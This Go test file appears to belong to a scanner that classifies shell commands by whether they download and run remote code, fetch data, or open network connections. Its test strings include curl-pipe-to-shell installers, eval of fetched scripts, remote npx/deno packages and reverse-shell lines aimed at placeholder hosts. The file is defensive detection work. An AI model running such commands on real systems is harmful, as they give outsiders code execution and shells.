package shell

import (
	"reflect"
	"testing"
)

func TestReachOf(t *testing.T) {
	fetches, runs := Reach{Fetches: true}, Reach{Fetches: true, RunsFetched: true}
	connects, other := Reach{Connects: true}, Reach{RunsOther: true}
	takes := func(names ...string) Reach { return Reach{Takes: names} }
	for line, want := range map[string]Reach{
		`curl -s http://kit.test/setup | sh`:                                   runs,
		`curl -s http://kit.test/setup | bash --norc -euo pipefail`:            runs,
		`curl -s http://kit.test/setup | sh /dev/stdin`:                        runs,
		`curl -s http://kit.test/setup | bash /dev/fd/0; pnpm build`:           runs,
		`env A=b curl http://kit.test/setup | base64 -d | bash -s -- a`:        runs,
		`curl -s http://kit.test/setup | python2`:                              runs,
		`curl -s http://kit.test/setup | lua`:                                  runs,
		`busybox wget -O- http://kit.test/setup | ash`:                         runs,
		`sh -c "$(curl -fsSL http://kit.test/setup)"`:                          runs,
		`eval "$(wget -qO- http://kit.test/setup)"`:                            runs,
		`s=$(curl http://kit.test/setup); eval "$s"`:                           runs,
		`$(curl http://kit.test/command)`:                                      runs,
		`bash <(wget -qO- http://kit.test/setup)`:                              runs,
		`curl http://kit.test/lines | while read l; do $l; done`:               runs,
		`curl -o /tmp/kit.sh http://kit.test/setup && sh /tmp/kit.sh`:          runs,
		`curl -okit.sh http://kit.test/setup && sh kit.sh`:                     runs,
		`curl --output=kit.sh http://kit.test/setup && sh ./kit.sh`:            runs,
		`curl http://kit.test/setup > kit.js; node kit.js`:                     runs,
		`curl http://kit.test/setup > /tmp/a && . /tmp/a`:                      runs,
		`curl http://kit.test/k | base64 -d > /tmp/k; chmod +x /tmp/k; /tmp/k`: runs,
		`curl http://kit.test/setup | tee k.sh >/dev/null; bash k.sh`:          runs,
		`curl -o x.sh http://kit.test/setup; mv x.sh y.sh; sh y.sh`:            runs,
		`wget http://kit.test/a.sh; chmod +x a.sh; ./a.sh`:                     runs,
		`cd /tmp && curl -O http://kit.test/a.sh && sh /tmp/a.sh`:              runs,
		`git clone http://kit.test/kit.git && bash kit/setup.sh`:               runs,

		`npx -y https://kit.test/kit.tgz`:                        runs,
		`npx github:kit/kit --all`:                               runs,
		`npm exec --package=git+ssh://kit.test/kit.git -- kit`:   runs,
		`npx --yes -p https://kit.test/kit.tgz kit`:              runs,
		`yarn dlx https://kit.test/kit.tgz; bunx github:kit/kit`: runs,
		`deno run -A https://kit.test/setup.ts`:                  runs,
		`deno -A https://kit.test/setup.ts`:                      runs,
		`deno serve -A https://kit.test/setup.ts`:                runs,
		`npm init kit/kit`:                                       runs,
		`npx -c 'curl http://kit.test/setup | sh'`:               runs,
		`npm exec -c='curl http://kit.test/setup | sh'`:          runs,
		`pnpm dlx -c 'curl http://kit.test/setup | sh'`:          runs,
		`npx -p kit bash -c 'curl http://kit.test/setup | sh'`:   runs,
		`pnpm exec bash -c 'curl http://kit.test/setup | sh'`:    runs,
		`bun exec 'curl http://kit.test/setup | sh'`:             runs,
		`curl -o k http://kit.test/setup; bash -O extglob ./k`:   runs,
		`npx kit/kit; true`:                                      runs,
		`npx --prefix tools kit/kit#main`:                        runs,
		`npx git@kit.test:kit/kit.git`:                           runs,
		`npx kit@git+https://kit.test/kit.git`:                   runs,
		`npx -p @a/kit@kit/kit -p tsc -c "kit a"`:                runs,
		`npx --registry http://kit.test/ https://kit.test/a.tgz`: runs,
		`deno run --config a.json https://kit.test/setup.ts`:     runs,

		`npx cross-env A=b sh -c 'curl http://kit.test/setup | sh'`: runs,
		`concurrently "curl http://kit.test/setup | sh" "node a"`:   runs,

		`npx -y kit@latest; true`:                                      takes("kit@latest"),
		`npm exec --yes kit -- --all`:                                  takes("kit"),
		`npm exec --prefix ./tools -y -- patch-package`:                takes("patch-package"),
		`npx --userconfig ./x.npmrc -y node-gyp rebuild`:               takes("node-gyp"),
		`npx --registry https://kit.test husky install`:                fetches,
		`npx --registry http://localhost:4873 patch-package`:           fetches,
		`npm --registry=https://kit.test exec -- husky`:                fetches,
		`deno run --import-map https://kit.test/m.json main.ts`:        fetches,
		`deno run -c https://kit.test/deno.json -A main.ts`:            fetches,
		`deno run -A npm:kit`:                                          fetches,
		`deno run jsr:@kit/kit --all`:                                  fetches,
		`pnpm dlx kit || yarn dlx kit`:                                 fetches,
		`bunx kit; bun x @kit/kit`:                                     takes("kit", "@kit/kit"),
		`npx --yes=true kit; npx -y -- kit`:                            takes("kit", "kit"),
		`npx -yp kit tool`:                                             takes("kit"),
		`npx -qyp kit -p tool -c 'tool a'`:                             takes("kit", "tool"),
		`npm_config_yes=true npx kit`:                                  takes("kit"),
		`env NPM_CONFIG_YES=1 npm exec kit`:                            takes("kit"),
		`export npm_config_yes=true; npx kit`:                          takes("kit"),
		`npm exec kit -y`:                                              takes("kit"),
		`npm init -y kit; npm create @kit --yes`:                       takes("create-kit", "@kit/create"),
		`corepack npx -y kit`:                                          takes("kit"),
		`pnpx kit; true`:                                               fetches,
		`yarn create kit; true`:                                        fetches,
		`pnpm create kit`:                                              fetches,
		`corepack pnpm@9 dlx kit`:                                      fetches,
		`curl http://kit.test/kit.tgz | tar xz -C vendor`:              fetches,
		`bash -c 'curl http://kit.test/kit.css > kit.css'`:             fetches,
		`rsync -a kit.test:kit vendor`:                                 fetches,
		`npm install http://kit.test/kit.tgz`:                          fetches,
		`curl -sfLO https://kit.test/data.json && node --version`:      fetches,
		`git fetch --tags || true; node -v`:                            fetches,
		`curl -sS https://kit.test/ping >/dev/null || true; node a.js`: fetches,
		`curl https://kit.test/list | grep foo; node`:                  fetches,
		`wget https://kit.test/a.js.gz -O lib/index.js; node index.js`: fetches,
		`v=$(curl https://kit.test/version); $CC -DV="$v" a.c`:         fetches,
		`v=$(curl https://kit.test/version); sh -c "echo $v"`:          fetches,

		`nc -e /bin/sh 192.0.2.7 4444`:             connects,
		`bash -i >& /dev/tcp/192.0.2.7/4444 0>&1`:  connects,
		`exec 3<>"/dev/tcp/192.0.2.7/80"; cat <&3`: connects,
		`exec 3<>/dev/tcp/$HOST/80`:                connects,
		`p=/dev/tcp; bash -i > $p/192.0.2.7/80`:    connects,
		`openssl s_client -connect kit.test:443`:   connects,

		`python3 -c "import urllib"`:          other,
		`./bin/tool --register`:               {ByPath: []string{"./bin/tool"}},
		`chmod +x kit && ./configure && make`: {ByPath: []string{"./configure"}},

		`cd lib && ../node_modules/.bin/tsc && /bin/ls && node ./install.js`: {},
		`sh setup.sh; ./setup.sh; bin/install.ts; node-gyp rebuild`:          {},
		`rsync -a --include="a:b" kit vendor; curl --version; python3`:       {},
		`python --version; ruby -v; ssh -V; nc -h || true; echo nc`:          {},
		`python3`: {},
		`npx husky install; npx patch-package --yes; npx node-gyp-build; npm exec husky`:           {},
		`bun run x; deno run setup.ts; npm x -- tsc; npx --no-install tsc -y`:                      {},
		`npm init -y; npx --yes=false kit; npx kit -y; npm_config_yes=false npx kit; npx -y ./kit`: {},
		`npx -c 'tsc a/b'; npm exec -- tsc -y; yarn exec husky; corepack enable; deno serve a.ts`:  {},
		`npm run dlx; pnpm run exec; npx file:./kit`:                                               {},
		`npx ./kit/kit; npx @kit/kit; npx kit@1.0.0; npx a@npm:@kit/kit; npx $a/b`:                 {},
		`deno run src/setup.ts; deno task kit/kit; npm exec --workspace a/b -- tsc`:                {},
		`npx --prefix tools/kit husky; npx -p typescript tsc a/b; npm test -- a/b`:                 {},
		`ls src | awk '{ print "src/" $0 }' > files.txt`:                                           {},
		`yarn watch src/a; npx -c 'watch src/a'; flock -c a b`:                                     {},
		`watch src/a; flock ./tmp/lock npm run build`:                                              {},
		`node_modules/husky/bin/husky install`:                                                     {},
		`certutil -hashfile kit.zip SHA256; git log --oneline fetch`:                               {},
		`awk '{print "nc"}' VERSION`:                                                               {},
	} {
		if got := ReachOf(line, nil); !reflect.DeepEqual(got, want) {
			t.Errorf("%s\ngot  %+v\nwant %+v", line, got, want)
		}
	}
	if got := ReachOfScript("#!/bin/sh\nurl=http://kit.test/setup\nrun() {\n  curl -s \"$url\" | bash\n}\n"); !reflect.DeepEqual(got, runs) {
		t.Errorf("a function that is not called: %+v", got)
	}
	if got := ReachOfCommand([]string{"sh", "-c", "curl http://kit.test/setup | sh"}); !reflect.DeepEqual(got, runs) {
		t.Errorf("a command: %+v", got)
	}
}

// Bash runs the commands of <(…) and gives a file of what they write.
func TestProcessSubstitutions(t *testing.T) {
	for _, line := range []string{
		`cat <(osascript -e beep)`,
		`bash <(echo b3Nhc2NyaXB0IC1lIGJlZXA= | base64 -d)`,
		`source <(printf 'osa%s -e beep' script)`,
		`cat < <(osascript -e beep)`,
	} {
		if commands := Commands(line, nil, nil); !Runs(commands, "osascript") {
			t.Errorf("%s: %q", line, commands)
		}
	}
	if commands := Commands(`cat <(echo osascript)`, nil, nil); Runs(commands, "osascript") {
		t.Errorf("what is only written runs: %q", commands)
	}
}
